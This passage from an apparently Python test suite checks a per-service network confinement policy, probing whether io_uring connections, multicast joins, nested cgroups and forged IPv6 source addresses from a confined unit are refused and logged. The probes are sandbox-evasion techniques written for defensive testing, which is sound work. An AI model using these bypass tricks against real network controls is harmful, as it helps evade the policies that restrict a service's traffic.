    done = subprocess.run([compiler, "-O1", "-o", rig.lab.dir / "uring", rig.lab.dir / "client" / "uring.c"],
                          capture_output=True, check=False)
    if done.returncode:
        raise Skip("no <linux/io_uring.h> fit for the io_uring client")
    c.put("/usr/local/bin/uring", (rig.lab.dir / "uring").read_bytes(), mode=0o755)
    r = c.unit("sh", "-c", f"for a in '{EVIL4} 7' '{EVIL6} 7' '{ONE} 7'; do uring $a; done", user=JOB,
               name="jail.service")
    lines = r.out.split()
    if "unavailable" in lines:
        raise Skip("io_uring is switched off in this kernel")
    equal(lines, ["connect=-1", "sendmsg=-1"] * 2 + ["connect=0", "sendmsg=3"], f"results ({r.err})")
    denied(c, EVIL4, "jail.service", "jail", protocol="TCP")
    denied(c, EVIL4, "jail.service", "jail", protocol="UDP")
    stayed(rig, EVIL4, "by io_uring")


# -- group memberships, sources

MEMBER = """
        def member(group, value=None):
            with socket.socket(family_of(group), socket.SOCK_DGRAM) as s:
                packed, six = socket.inet_pton(s.family, group), ":" in group
                index = struct.pack("=I", socket.if_nametoindex("eth0"))
                value = packed + (index if six else bytes(4) + index)
                s.setsockopt(socket.IPPROTO_IPV6 if six else socket.IPPROTO_IP, 20 if six else 35, value)
                return "joined"
        def forged(addr, server):
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
                s.bind((addr, 5555))
                return s.sendto(b"forged", (server, 7))
"""


@case("C14 C15 units: a group is judged by the unit's policy, below its cgroup as well; a foreign source is refused")
def members_and_sources(rig):
    c = boot(rig, jail=(ONE + "/32", "2001:db8:113::10/128", "239.1.2.4/32"))
    source = MEMBER + """
        report(denied=attempt(member, "239.83.69.67"), denied6=attempt(member, "ff02:5345:4352:4554::1"),
               routers=attempt(member, "ff02::2"), hosts=attempt(member, "224.0.0.1"), allowed=attempt(member, "239.1.2.4"),
               forged=attempt(forged, EVIL6, "2001:db8:113::10"), mine=attempt(forged, CLIENT6, "2001:db8:113::10"))
    """
    nested = """
        os.mkdir(own_cgroup() + "/deep")
        enter_cgroup(own_cgroup() + "/deep")
    """
    for name, prefix, options in (("jail.service", "", {"user": JOB}), ("jail-nested.service", nested, {"user": "root"})):
        r = attack(c, prefix + source, name=name, **options)
        refused(r, "denied", "denied6", "routers", "forged")
        worked(r, "hosts", "allowed", "mine")
        denied(c, "239.83.69.67", name, "jail", protocol="IGMP")
        equal(denied(c, "2001:db8:113::10", name, "jail", reason="source")["src_ip"], EVIL6, "source")
    r = attack(c, MEMBER + """
        report(denied=attempt(member, "239.83.69.67"), routers=attempt(member, "ff02::2"))
    """, name="free.service")
    refused(r, "denied")
    worked(r, "routers")  # a router of the network, as networkd may be
    denied(c, "239.83.69.67", "free.service", "host", protocol="IGMP")
    stayed(rig, EVIL6, "answers to a forged source")
